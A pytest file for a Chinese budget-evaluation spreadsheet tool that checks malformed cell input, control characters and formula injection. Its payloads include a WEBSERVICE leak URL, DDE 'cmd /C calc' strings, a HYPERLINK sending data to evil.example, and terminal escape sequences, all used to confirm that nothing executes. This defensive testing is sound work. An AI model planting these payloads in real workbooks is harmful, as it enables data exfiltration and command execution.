"""Bad input, part 3: what accountants type into the cells, and text that looks like code.

Each case: 校验 (exit 1) reports it on the cell itself — sheet, cell, the field's label — with
the fix; the report is still generated with --force; nothing a workbook holds is executed, and
text that looks like a formula stays text in every sheet jxzp writes.
"""
from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest

from addin.xlsx.files import MAX_FILE_BYTES  # noqa: F401 - imported so a rename breaks loudly
from conftest import mutate, validate_file
from test_bad_input_kit import Guard, copy_to, edit_book, expect, inline_text, jxzp, name_address, set_raw_cell


def _findings(run) -> list[dict]:
    return json.loads(run.out)["findings"]


def _on_cell(path: Path, name: str, *phrases: str, severity: str | None = None) -> dict:
    """The finding about `name`: placed on its cell, message with every phrase; also in the text output."""
    r = expect(jxzp("validate", path, "--json"), 1)
    sheet, cell = name_address(path, name)
    hits = [f for f in _findings(r) if f["name"] == name and all(p in f["message"] for p in phrases)
            and (severity is None or f["severity"] == severity)]
    assert hits, [f"{f['severity']} {f['name']} {f['message']}" for f in _findings(r) if f["name"] == name]
    f = hits[0]
    assert (f["sheet"], f["cell"]) == (sheet, cell)
    text = expect(jxzp("validate", path), 1, f"【{sheet}】").out
    assert any(cell in line and phrases[0] in line for line in text.splitlines())
    return f


# ---------------------------------------------------------------- numbers typed as something else
TYPED = [
    # value written into the cell, name, phrases the message must contain (label/problem first, then the fix)
    ("三百万", "f_budget_initial", ("“年初预算”填的是文字“三百万”", "请改为数字 3000000")),
    ("3,491,995元", "f_budget_initial", ("文字“3,491,995元”", "请改为数字 3491995")),
    (" 12 ", "f_admin_actual", ("“行政实有”填的是文字", "请改为数字 12")),
    ("３６３８３４６．０２", "f_final_exp", ("“决算支出”填的是文字", "请改为数字 3638346.02")),
    ("349.2万元", "f_budget_initial", ("文字“349.2万元”", "3492000")),
    (92.3, "f_h1_progress_reported", ("填的是 92.3", "比率请填 0.923 或 92.3%")),
    ("92.3%", "f_h1_progress_reported", ("文字“92.3%”", "请改为数字 0.923")),
    (-5000, "f_carryover", ("为负数 -5000", "金额不能为负")),
    (1e16, "f_carryover", ("超过十万亿元", "多输了位数")),
    (None, "f_budget_initial", ("“年初预算”未填写（必填）", "请填写")),
    (None, "f_department", ("“部门名称”未填写（必填）", "请填写")),
    ("   ", "f_final_exp", ("只有空格", "请填写数值或清空")),
    ("#DIV/0!", "f_public_budget", ("错误值 #DIV/0!", "请改为正确的数值")),
    ("#NAME?", "f_final_exp", ("错误值 #NAME?", "请改为正确的数值")),
    ("#REF!", "s_budget_rationality", ("错误值 #REF!", "请改为正确的数值")),
    ({"$date": "2022-03-05"}, "f_budget_initial", ("识别成了日期", "单元格格式改为数值")),
    (True, "f_budget_initial", ("逻辑值 TRUE", "请填数字")),
    ("有", "f_transfer_payments", ("只能填“是”或“否”", "应为“是”")),
    ("五分", "s_budget_rationality", ("文字“五分”", "请改为数字")),
    (7.5, "f_admin_actual", ("应为整数", "请改为整数")),
    (22, "f_year", ("四位年份", "2022")),
]


@pytest.mark.parametrize("value, name, phrases", TYPED, ids=[f"{n}={v!r}" for v, n, _ in TYPED])
def test_typed_value_is_reported_on_its_cell(sample_path, tmp_path, value, name, phrases):
    p = mutate(sample_path, tmp_path / "填错.xlsx", {name: value})
    with Guard([p], [tmp_path]):
        f = _on_cell(p, name, *phrases)
        assert f["severity"] == "错误"
        expect(jxzp("report", p, "-o", tmp_path / "报告.docx"), 1, "未生成报告")  # 错误 stops the report
        expect(jxzp("report", p, "-o", tmp_path / "报告.docx", "--force"), 0, "已生成自评报告")


def test_400_digit_number_in_the_file(sample_path, tmp_path):
    """A number no float holds (only a hand-made or broken file has it) is a finding, not a crash."""
    p = set_raw_cell(sample_path, tmp_path / "大数.xlsx", "f_budget_initial",
                     lambda coord, style: f'<c r="{coord}"{style}><v>{"9" * 400}</v></c>')
    with Guard([p], [tmp_path]):
        _on_cell(p, "f_budget_initial", "不是有效数字", "请改为正确的数值")
        expect(jxzp("report", p, "--force", "-o", tmp_path / "报告.docx"), 0)
        expect(jxzp("export", p, "--json"), 0)


@pytest.mark.parametrize("kind", ["amount", "count", "rate", "yesno", "text", "score"])
def test_integer_beyond_any_float_is_a_finding(kind):
    """What an adapter could hand over (a 5000-digit int): a short message, no OverflowError/str() limit."""
    from addin.core.inputs import classify

    p = classify(10 ** 5000, kind, "年初预算")
    assert p is not None and p.severity == "错误" and "位的数" in p.message and "请改为正确的数值" in p.message
    assert len(p.message) < 80


# ---------------------------------------------------------------- formulas: never executed
@pytest.mark.parametrize("formula", [
    '=WEBSERVICE("http://127.0.0.1:9/leak?d="&f_department)',
    "=cmd|' /C calc'!A0",  # DDE
    '=__import__("os").system("touch {marker}")',
    "=9**9**9**9",
    "=" + "(" * 300 + "1" + ")" * 300,
])
def test_formulas_in_input_cells_are_never_executed(sample_path, tmp_path, formula):
    marker = tmp_path / "executed"
    formula = formula.replace("{marker}", str(marker))

    def put(wb):
        sheet, coord = name_address(sample_path, "f_budget_initial")
        wb[sheet][coord] = formula

    p = edit_book(sample_path, tmp_path / "公式.xlsx", put)
    with Guard([p], [tmp_path]):
        _on_cell(p, "f_budget_initial", "是公式", "离线无法计算其结果", "请改填数值", severity="警告")
        expect(jxzp("report", p, "--force", "-o", tmp_path / "报告.docx"), 0)
    assert not marker.exists()


def test_simple_arithmetic_typed_as_a_formula_counts(sample_path, tmp_path):
    def put(wb):
        sheet, coord = name_address(sample_path, "f_budget_initial")
        wb[sheet][coord] = "=3000000+491995"

    p = edit_book(sample_path, tmp_path / "算式.xlsx", put)
    ev, result = validate_file(p)
    assert ev.inputs["f_budget_initial"] == 3491995
    assert not [f for f in result.findings if f.name == "f_budget_initial"]


# ---------------------------------------------------------------- invisible characters, emoji
def test_control_characters_and_emoji_in_narrative_text(sample_path, tmp_path):
    """Excel stores a pasted line break (vertical tab) or bell as _x000B_/_x0007_ in the file."""
    step = set_raw_cell(sample_path, tmp_path / "a.xlsx", "n_economy",
                        inline_text("节约经费😀👍，第一行_x000B_第二行_x0007_响铃"))
    p = set_raw_cell(step, tmp_path / "控制字符.xlsx", "报告文字!D5", inline_text("（二）统筹推进_x0007_“数字政府”🚀改革"))
    with Guard([p], [tmp_path]):
        r = expect(jxzp("validate", p, "--json"), 1)
        hits = [f for f in _findings(r) if f["cell"] == "D5" and "控制字符" in f["message"]]
        assert hits and hits[0]["sheet"] == "报告文字" and "第 2 行" in hits[0]["message"]
        out = tmp_path / "报告.docx"
        expect(jxzp("report", p, "--force", "-o", out), 0)
    doc = docx.Document(out)
    paras = [x.text for x in doc.paragraphs] + [c.text for t in doc.tables for row in t.rows for c in row.cells]
    text = "\n".join(paras)
    assert "😀👍" in text and "🚀" in text
    assert "_x000B_" not in text and "_x0007_" not in text
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    assert any(t.endswith("第一行") or "第一行\n" in t for t in paras)  # the break is kept as a break


def test_escape_sequences_do_not_reach_the_terminal(sample_path, tmp_path):
    p = set_raw_cell(sample_path, tmp_path / "转义.xlsx", "f_budget_initial", inline_text("12_x001B_[2J_x001B_]0;x_x0007_"))
    with Guard([p], [tmp_path]):
        r = expect(jxzp("validate", p), 1, "“年初预算”填的是文字“12\\x1b[2J", "请改为数字")
        assert "\x1b" not in r.text and "\x07" not in r.text


def test_escape_sequences_in_table_text_do_not_reach_the_terminal(sample_path, tmp_path):
    step = set_raw_cell(sample_path, tmp_path / "a.xlsx", "项目清单!B5", inline_text("项目_x001B_[2J甲"))
    step = set_raw_cell(step, tmp_path / "b.xlsx", "项目清单!B6", inline_text("项目_x001B_[2J甲"))
    p = set_raw_cell(step, tmp_path / "表格转义.xlsx", "报告文字!B6", inline_text("章节_x001B_[31m"))
    with Guard([p], [tmp_path]):
        r = expect(jxzp("validate", p), 1, "重复出现", "不在可选范围")
        assert "\x1b" not in r.text  # the real ESC character


def test_control_characters_in_department_name_do_not_break_the_report(sample_path, tmp_path):
    p = set_raw_cell(sample_path, tmp_path / "部门.xlsx", "f_department", inline_text("乐昌市政务服务数据管理局_x001B_"))
    with Guard([p], [tmp_path]):
        _on_cell(p, "f_department", "控制字符", severity="警告")
        expect(jxzp("report", p, "--force", "-o", tmp_path / "报告.docx"), 0, "已生成自评报告")


def test_very_long_department_name_does_not_break_the_report(sample_path, tmp_path):
    p = mutate(sample_path, tmp_path / "长名称.xlsx", {"f_department": "乐昌市政务服务数据管理局" * 25})
    with Guard([p], [tmp_path]):
        expect(jxzp("report", p, "--force", "-o", tmp_path / "报告.docx"), 0, "已生成自评报告")


def test_scores_whose_sum_overflows_do_not_break_the_report(sample_path, tmp_path):
    p = mutate(sample_path, tmp_path / "溢出.xlsx", {"s_budget_rationality": 1e308, "s_budget_standard": 1e308})
    with Guard([p], [tmp_path]):
        _on_cell(p, "s_budget_rationality", "超过适用分值")
        expect(jxzp("report", p, "--force", "-o", tmp_path / "报告.docx"), 0, "已生成自评报告")


# ---------------------------------------------------------------- formula injection into the sheets jxzp writes
PAYLOADS = {
    "f_contact": '=HYPERLINK("http://evil.example/?d="&f_department,"点此查看")',
    "f_phone": "+1+cmd|' /C calc'!A0",
    "f_region": "-2+3",
    "n_effect": "@SUM(1+1)",
    "n_economy": "=1+1",
}


def _formula_cells(path: Path) -> list[str]:
    """Every <f> in every sheet of the package (formulas the file carries)."""
    out = []
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                out += re.findall(r"<f>([^<]*)</f>", z.read(n).decode("utf-8"))
    return out


def test_text_that_looks_like_a_formula_stays_text(sample_path, tmp_path):
    rows = [["=2+5", 100, 50, "是", "是", "@cmd"], ["-1+1", 10, 5, "否", "是", "+A1"]]
    p = mutate(sample_path, tmp_path / "注入.xlsx", PAYLOADS, tables={"projects": {"rows": rows}})
    ann = tmp_path / "标注.xlsx"
    with Guard([p], [tmp_path]):
        expect(jxzp("validate", p, "--annotate", ann), 1, "已写入带标注的副本")
        data = tmp_path / "数据.json"
        expect(jxzp("export", p, "--json", "-o", data), 0)
        filled = tmp_path / "回填.xlsx"
        expect(jxzp("fill", p, "--from", data, "-o", filled), 0)
    payload_text = list(PAYLOADS.values()) + ["=2+5", "-1+1", "@cmd", "+A1"]
    for out in (p, ann, filled):
        formulas = _formula_cells(out)
        assert not [f for f in formulas if any(t.lstrip("=+-@") in f for t in payload_text if len(t) > 4)], out
        wb = openpyxl.load_workbook(out)
        for name, text in PAYLOADS.items():
            sheet, coord = name_address(out, name)
            c = wb[sheet][coord]
            assert (c.value, c.data_type) == (text, "s"), (out.name, name, c.value, c.data_type)
    ws = openpyxl.load_workbook(ann)["校验结果"]
    for row in ws.iter_rows(min_row=5):
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)


def test_fill_data_that_no_cell_can_hold(sample_path, tmp_path):
    """NaN, infinity, a 400-digit integer, a lone surrogate, text over Excel's 32767 characters."""
    src = copy_to(sample_path, tmp_path)
    data = tmp_path / "数据.json"
    big = "9" * 400
    data.write_text('{"cells": ['
                    '{"name": "f_budget_initial", "value": NaN},'
                    '{"name": "f_carryover", "value": Infinity},'
                    f'{{"name": "f_final_exp", "value": {big}}},'
                    '{"name": "n_economy", "value": "节约\\ud800经费"},'
                    f'{{"name": "n_effect", "value": "{"很长" * 20000}"}}]}}', encoding="utf-8")
    out = tmp_path / "回填.xlsx"
    with Guard([src, data], [tmp_path]):
        r = expect(jxzp("fill", src, "--from", data, "-o", out), 0, "已写入 2 个值",
                   "f_budget_initial（基本信息!B16）", "nan", "未写入（单元格保留原值）", "超长整数",
                   "控制字符或无效字符", "32767")
        assert "inf" in r.err
    wb = openpyxl.load_workbook(out)
    ref = openpyxl.load_workbook(src)
    for name in ("f_budget_initial", "f_carryover", "f_final_exp"):
        sheet, coord = name_address(out, name)
        assert wb[sheet][coord].value == ref[sheet][coord].value  # kept
    sheet, coord = name_address(out, "n_economy")
    assert wb[sheet][coord].value == "节约经费"
    sheet, coord = name_address(out, "n_effect")
    assert len(wb[sheet][coord].value) == 32767
    expect(jxzp("validate", out), 1)


@pytest.mark.libreoffice
def test_another_spreadsheet_program_shows_the_payloads_as_text(sample_path, tmp_path):
    """LibreOffice opens the annotated copy and saves it again: the payloads are still text, not results."""
    import subprocess

    from conftest import soffice

    p = mutate(sample_path, tmp_path / "注入.xlsx", PAYLOADS)
    ann = tmp_path / "标注.xlsx"
    expect(jxzp("validate", p, "--annotate", ann), 1)
    outdir = tmp_path / "lo"
    outdir.mkdir()
    r = subprocess.run([soffice(), f"-env:UserInstallation=file://{tmp_path / 'lo_profile'}", "--headless",
                        "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(outdir), str(ann)],
                       capture_output=True, text=True, timeout=180)
    assert r.returncode == 0, r.stderr
    again = outdir / ann.name
    wb = openpyxl.load_workbook(again)
    cached = openpyxl.load_workbook(again, data_only=True)
    for name, text in PAYLOADS.items():
        sheet, coord = name_address(ann, name)
        assert wb[sheet][coord].data_type == "s" and cached[sheet][coord].value == text, (name, cached[sheet][coord].value)
    assert not [f for f in _formula_cells(again) if "HYPERLINK" in f or "cmd" in f or "SUM(1" in f]
